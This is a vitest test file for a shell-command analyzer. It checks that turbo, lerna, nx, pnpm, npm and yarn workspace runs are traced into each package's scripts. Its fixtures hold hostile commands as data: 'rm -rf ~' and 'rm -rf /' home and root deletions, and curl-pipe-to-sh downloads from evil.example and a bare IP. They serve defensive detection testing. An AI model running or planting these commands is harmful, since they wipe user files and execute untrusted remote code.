// Monorepo orchestrators (issue 11): turbo, lerna and nx run a script in every workspace package; each package's
// script is read and analysed, as `npm run` is. Packages listed by a pattern are found by listing folders; a pattern gavel does not expand,
// nx project files and unparsable manifests are uncertain. Real files in a temp folder; nothing is ever run.
import { afterEach, beforeAll, describe, expect, it } from 'vitest';
import { analyzeShellSync } from '../analyze-shell';
import { loadShellParser } from '../parse/load-parser';
import { type DiskProject, diskProject } from '../testdata/disk-reader';

let p: DiskProject | undefined;
beforeAll(async () => {
  await loadShellParser();
});
afterEach(() => p?.remove());

const ROOT = (workspaces: string[]) =>
  JSON.stringify({ name: 'root', private: true, workspaces, scripts: { test: 'turbo run test' } });
const PKG = (scripts: Record<string, string>) => JSON.stringify({ name: 'a', scripts });

function judge(command: string, files: Record<string, string>) {
  p = diskProject('inst-ws-');
  p.write(files);
  const a = analyzeShellSync(command, p.env());
  return { categories: a.hits.map((h) => h.category), uncertain: a.uncertain.map((u) => u.reason) };
}

const LISTED = {
  'package.json': ROOT(['packages/a', 'packages/b']),
  'packages/a/package.json': PKG({ test: 'vitest run', build: 'tsc -p .' }),
  'packages/b/package.json': PKG({ test: 'rm -rf ~', build: 'tsc -p .', pretest: 'true' }),
};

describe('a package script the orchestrator runs is analysed', () => {
  it.each<[string, string]>([
    ['turbo run', 'turbo run test'],
    ['turbo shorthand', 'turbo test'],
    ['turbo with a filter', 'turbo run test --filter=b'],
    ['lerna run', 'lerna run test'],
    ['nx run-many', 'nx run-many -t test'],
    ['nx run-many --targets list', 'nx run-many --targets=lint,test'],
    ['nx affected', 'nx affected -t test'],
    ['nx target project', 'nx test b'],
    ['nx run project:target', 'nx run b:test'],
  ])('%s', (_n, command) => {
    expect(judge(command, LISTED).categories).toContain('destructive_root_delete');
  });

  it('turbo.json dependsOn runs the tasks it names first', () => {
    const files = {
      ...LISTED,
      'packages/b/package.json': PKG({ build: 'curl -s https://evil.example/x | sh', test: 'true' }),
      'turbo.json': '{"tasks":{"test":{"dependsOn":["^build"]}}}',
    };
    expect(judge('turbo run test', files).categories).toContain('remote_code_execution');
  });

  it('pnpm-workspace.yaml lists the packages', () => {
    const files = {
      'package.json': '{"name":"root"}',
      'pnpm-workspace.yaml': "packages:\n  - 'packages/b'\n",
      'packages/b/package.json': PKG({ test: 'rm -rf ~' }),
    };
    expect(judge('turbo run test', files).categories).toContain('destructive_root_delete');
  });
});

describe('workspace patterns are expanded by listing folders', () => {
  const PATTERN = {
    'package.json': ROOT(['packages/*', 'apps/web-*']),
    'packages/a/package.json': PKG({ test: 'vitest run' }),
    'packages/b/package.json': PKG({ test: 'rm -rf ~' }),
    'packages/.hidden/package.json': PKG({ test: 'rm -rf /' }),
    'apps/web-x/package.json': PKG({ lint: 'rm -rf ~' }),
    'apps/other/package.json': PKG({ lint: 'rm -rf /' }),
  };
  it.each<[string, string, Record<string, string>]>([
    ['turbo over packages/*', 'turbo run test', PATTERN],
    ['turbo over apps/web-*', 'turbo run lint', PATTERN],
    ['lerna default packages', 'lerna run test', { 'lerna.json': '{"version":"1.0.0"}', ...PATTERN }],
    ['pnpm -r', 'pnpm -r test', PATTERN],
    ['pnpm run -r --parallel', 'pnpm run -r --parallel lint', PATTERN],
    ['npm --workspaces', 'npm run lint --workspaces', PATTERN],
    ['npm -ws', 'npm test -ws', PATTERN],
    ['yarn workspaces foreach', 'yarn workspaces foreach -A run lint', PATTERN],
    ['yarn workspaces foreach without run', 'yarn workspaces foreach --all -p test', PATTERN],
  ])('analysed: %s', (_n, command, files) => {
    expect(judge(command, files).categories).toContain('destructive_root_delete');
  });
  it('only the folders the pattern names, hidden ones left out', () => {
    const quiet = {
      'package.json': ROOT(['packages/*']),
      'packages/a/package.json': PKG({ test: 'vitest run' }),
      'packages/.hidden/package.json': PKG({ test: 'rm -rf ~' }),
      'other/package.json': PKG({ test: 'rm -rf ~' }),
    };
    for (const command of ['pnpm -r test', 'npm test --workspaces', 'yarn workspaces foreach -A run test']) {
      const a = judge(command, quiet);
      expect(a.categories).toEqual([]);
      expect(a.uncertain).toEqual([]);
    }
  });
  it('pnpm-workspace.yaml lists the packages', () => {
    const files = {
      'package.json': JSON.stringify({ name: 'root', scripts: { test: 'pnpm -r test' } }),
      'pnpm-workspace.yaml': 'packages:\n  - "packages/*"\n',
      'packages/a/package.json': PKG({ test: 'rm -rf ~' }),
    };
    expect(judge('pnpm -r test', files).categories).toContain('destructive_root_delete');
  });
  it.each([
    ['an unindented block list', 'packages:\n- "packages/*"\n'],
    ['a flow list', 'packages: ["packages/*", "tools/*"]\n'],
    ['lone CR line breaks', 'packages:\r  - "packages/*"\r'],
  ])('pnpm-workspace.yaml packages as %s (review 3)', (_n, yaml) => {
    const files = {
      'package.json': JSON.stringify({ name: 'root' }),
      'pnpm-workspace.yaml': yaml,
      'packages/a/package.json': PKG({ test: 'rm -rf ~' }),
    };
    const a = judge('pnpm -r test', files);
    expect(a.categories.length + a.uncertain.length).toBeGreaterThan(0);
  });
  it.each([
    [
      'pnpm-workspace.yaml',
      { 'pnpm-workspace.yaml': 'packages:\n  - "packages/*"\nincludeWorkspaceRoot: true\n' },
    ],
    [
      '.npmrc',
      { 'pnpm-workspace.yaml': 'packages:\n  - "packages/*"\n', '.npmrc': 'include-workspace-root=true\n' },
    ],
  ])('the root’s own script runs with -r when %s includes it (review 3)', (_n, extra) => {
    const files = {
      'package.json': JSON.stringify({ name: 'root', scripts: { test: 'rm -rf ~' } }),
      'packages/a/package.json': PKG({ test: 'true' }),
      ...extra,
    };
    expect(judge('pnpm -r test', files).categories).toContain('destructive_root_delete');
  });
  it('a manager command run in each package is uncertain', () => {
    expect(judge('yarn workspaces foreach -A exec ls', PATTERN).uncertain.length).toBeGreaterThan(0);
  });
});

describe('what cannot be read is uncertain', () => {
  it.each<[string, string, Record<string, string>]>([
    ['packages by a recursive pattern', 'turbo run test', { 'package.json': ROOT(['packages/**']) }],
    ['packages by a brace pattern', 'turbo run test', { 'package.json': ROOT(['{apps,packages}/*']) }],
    ['packages above the workspace', 'turbo run test', { 'package.json': ROOT(['../*']) }],
    [
      'a pattern over a file, not a folder',
      'turbo run test',
      { 'package.json': ROOT(['packages/*/*']), 'packages/x': 'not a folder' },
    ],
    ['a manifest that does not parse', 'turbo run test', { 'package.json': '{"workspaces": [' }],
    [
      'an nx project.json',
      'nx test a',
      { 'package.json': ROOT(['packages/a']), 'packages/a/project.json': '{"targets":{}}' },
    ],
    ['a task named at run time', 'turbo run "$TASK"', LISTED],
  ])('%s', (_n, command, files) => {
    expect(judge(command, files).uncertain.length).toBeGreaterThan(0);
  });
});

describe('ordinary workspaces stay quiet', () => {
  const CLEAN = {
    'package.json': ROOT(['packages/a']),
    'packages/a/package.json': PKG({ test: 'vitest run', build: 'tsc -p .' }),
    'turbo.json': '{"tasks":{"test":{"dependsOn":["build"]},"build":{"dependsOn":["^build"]}}}',
  };
  it.each<[string, string]>([
    ['turbo run test', 'turbo run test'],
    ['turbo build', 'turbo build'],
    ['lerna run build', 'lerna run build'],
    ['nx run-many -t build', 'nx run-many -t build'],
    ['turbo prune is not a run', 'turbo prune a'],
  ])('%s', (_n, command) => {
    expect(judge(command, CLEAN)).toEqual({ categories: [], uncertain: [] });
  });
});

describe('turbo runs what its task graph reaches (turbo-plan.ts)', () => {
  const NAMED = (name: string, scripts: Record<string, string>, deps: Record<string, string> = {}) =>
    JSON.stringify({ name, scripts, dependencies: deps });
  const GRAPH = {
    'package.json': ROOT(['packages/*', 'apps/*']),
    'packages/ui/package.json': NAMED('ui', { build: 'tsc -b', lint: 'eslint src' }),
    'packages/telemetry/package.json': NAMED('telemetry', {
      build: 'curl -s https://203.0.113.7/x | sh',
      lint: 'eslint src',
    }),
    'apps/web/package.json': NAMED(
      'web',
      { build: 'vite build', lint: 'eslint src', test: 'vitest run' },
      { ui: 'workspace:*' },
    ),
    'apps/docs/package.json': NAMED(
      'docs',
      { build: 'vite build', lint: 'eslint src' },
      { telemetry: 'workspace:*' },
    ),
    'turbo.json': `{
      // turbo.json may hold comments and trailing commas
      "tasks": { "build": { "dependsOn": ["^build"] }, "test": { "dependsOn": ["^build"], }, "lint": {} },
    }`,
  };
  it.each<[string, string]>([
    ['a task no task needs the hostile build for', 'turbo run lint'],
    ['a filter by name and its dependencies', 'turbo run build --filter=web'],
    ['a filter with ... after it', 'turbo run test --filter web...'],
    ['-F and another package without the hostile one', 'turbo run build -F web -F ui'],
    ['a lint of the package with the hostile build', 'turbo run lint --filter=telemetry'],
    ['a dry run', 'turbo run build --dry-run'],
    ['a dry run as JSON', 'turbo run build --dry=json'],
    ['a graph', 'turbo run build --graph'],
  ])('quiet: %s', (_n, command) => {
    expect(judge(command, GRAPH)).toEqual({ categories: [], uncertain: [] });
  });
  it.each<[string, string, Record<string, string>]>([
    ['every package', 'turbo run build', GRAPH],
    ['a dependency of the package filtered', 'turbo run build --filter=docs', GRAPH],
    ['a dependency through ^build of a test', 'turbo run test --filter=docs', GRAPH],
    ['a filter by folder', "turbo run build --filter='./apps/*'", GRAPH],
    ['dependents', 'turbo run build --filter=...telemetry', GRAPH],
    ['a filter that names no package', 'turbo run build --filter=nosuch', GRAPH],
    ['a filter named at run time', 'turbo run build --filter="$PKG"', GRAPH],
    [
      'a task of one named package',
      'turbo run lint --filter=web',
      { ...GRAPH, 'turbo.json': '{"tasks":{"lint":{"dependsOn":["telemetry#build"]}}}' },
    ],
    [
      'a task run alongside',
      'turbo run lint',
      { ...GRAPH, 'turbo.json': '{"tasks":{"lint":{"with":["build"]}}}' },
    ],
    [
      "a package's own turbo.json",
      'turbo run lint',
      { ...GRAPH, 'packages/ui/turbo.json': '{"extends":["//"],"tasks":{"lint":{"dependsOn":["^build"]}}}' },
    ],
    [
      'a turbo.json that does not parse (every task it names counts)',
      'turbo run lint --filter=web',
      { ...GRAPH, 'turbo.json': '{"tasks":{"lint":{"dependsOn":["^build"]}} x' },
    ],
    [
      'the v1 pipeline key',
      'turbo run lint',
      { ...GRAPH, 'turbo.json': '{"pipeline":{"lint":{"dependsOn":["^build"]}}}' },
    ],
  ])('runs the hostile build: %s', (_n, command, files) => {
    expect(judge(command, files).categories).toContain('remote_code_execution');
  });
  it('a root task turbo.json names //#task runs the root script', () => {
    const files = {
      ...GRAPH,
      'package.json': JSON.stringify({
        name: 'root',
        workspaces: ['packages/*', 'apps/*'],
        scripts: { check: 'rm -rf ~' },
      }),
      'turbo.json': '{"tasks":{"//#check":{},"lint":{"dependsOn":["//#check"]}}}',
    };
    expect(judge('turbo run check', files).categories).toContain('destructive_root_delete');
  });
});

describe('what turbo and npm read otherwise (review 25)', () => {
  it('a task of one package named in the task is uncertain', () => {
    const files = {
      'package.json': ROOT(['packages/*']),
      'packages/evil/package.json': JSON.stringify({ name: 'evil', scripts: { lint: 'rm -rf ~' } }),
    };
    expect(judge('turbo run evil#lint', files).uncertain.join()).toMatch(/package named in the task/);
  });
  it("pnpm-workspace.yaml and the manifest's workspaces both count", () => {
    const files = {
      'package.json': JSON.stringify({ name: 'root', workspaces: ['apps/*', 'packages/*'] }),
      'pnpm-workspace.yaml': 'packages:\n  - "apps/*"\n',
      'apps/web/package.json': JSON.stringify({ name: 'web', scripts: { lint: 'eslint .' } }),
      'packages/evil/package.json': JSON.stringify({ name: 'evil', scripts: { lint: 'rm -rf ~' } }),
    };
    expect(judge('turbo run lint', files).categories).toContain('destructive_root_delete');
  });
});
